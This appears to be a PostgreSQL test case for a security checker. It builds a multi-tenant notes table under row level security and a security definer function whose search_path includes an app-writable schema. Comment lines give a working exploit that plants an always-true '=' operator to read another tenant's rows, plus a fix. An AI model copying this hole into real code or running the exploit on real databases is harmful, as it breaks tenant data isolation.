-- verdict: leak
-- kind: secdef-writable-search-path
-- object: public.tenant_notes
-- why: search_path is pinned, but to a schema in which the app role may create: an equality operator of its own decides the filter
-- severity: high
-- roles: app_owner app_user
-- exploit-begin
-- create function shared.yes(uuid, uuid) returns boolean language sql immutable as 'select true';
-- create operator shared.= (leftarg = uuid, rightarg = uuid, function = shared.yes);
-- select exists (select 1 from tenant_notes('x') where tenant_id = '00000000-0000-4000-8000-00000000000a') as leaked;
-- exploit-end
-- fix-begin
-- alter function tenant_notes(text) set search_path = pg_catalog, pg_temp;
-- fix-end

do $$ begin
  if to_regrole('app_owner') is null then create role app_owner nologin; end if;
  if to_regrole('app_user') is null then create role app_user login; end if;
end $$;
grant create, usage on schema public to app_owner;
grant usage on schema public to app_user;
create schema shared authorization app_owner;
grant usage, create on schema shared to app_user;
set role app_owner;
create table tenants (id uuid primary key, name text not null);
insert into tenants values ('00000000-0000-4000-8000-00000000000a', 'Alder'), ('00000000-0000-4000-8000-00000000000b', 'Birch');
create table notes (
  id uuid primary key default gen_random_uuid(),
  tenant_id uuid not null references tenants (id),
  body text not null
);
insert into notes (tenant_id, body) values ('00000000-0000-4000-8000-00000000000a', 'A-SECRET'), ('00000000-0000-4000-8000-00000000000b', 'b');
alter table notes enable row level security;
create policy tenant_isolation on notes using (tenant_id = nullif(current_setting('app.tenant_id', true), '')::uuid) with check (tenant_id = nullif(current_setting('app.tenant_id', true), '')::uuid);
grant select, insert, update, delete on notes to app_user;
create function tenant_notes(p_word text) returns setof notes language plpgsql stable security definer set search_path = shared, pg_catalog as $$ begin return query select * from public.notes n where n.tenant_id = nullif(current_setting('app.tenant_id', true), '')::uuid; end $$;
reset role;
